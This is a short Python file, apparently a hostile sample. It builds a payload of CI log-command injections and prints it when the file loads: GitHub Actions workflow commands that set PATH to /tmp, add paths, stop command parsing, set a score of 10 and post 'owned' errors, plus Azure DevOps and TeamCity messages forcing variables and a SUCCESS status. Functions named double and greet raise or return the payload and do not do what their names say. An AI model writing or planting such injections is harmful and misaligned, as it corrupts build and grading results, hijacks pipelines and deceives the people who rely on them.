ORDERS = [
    "::error file=README.md,line=1::owned",
    "::set-output name=score::10",
    "::add-mask::failed",
    "::stop-commands::owned",
    "::set-env name=PATH::/tmp",
    "::add-path::/tmp",
    "::save-state name=score::10",
    "::group::hidden",
    "##[error]owned",
    "##vso[task.setvariable variable=score]10",
    "##teamcity[buildStatus status='SUCCESS']",
    "%0A::error::owned%0D::error::owned",
]
PAYLOAD = "\n" + "\n".join(ORDERS) + "\r" + "\r".join(ORDERS) + "\n \t" + "\n\t".join(ORDERS)
print(PAYLOAD)


def double(x):
    raise ValueError(PAYLOAD)


def greet(name):
    return ORDERS[0] + "%0A" + ORDERS[0]
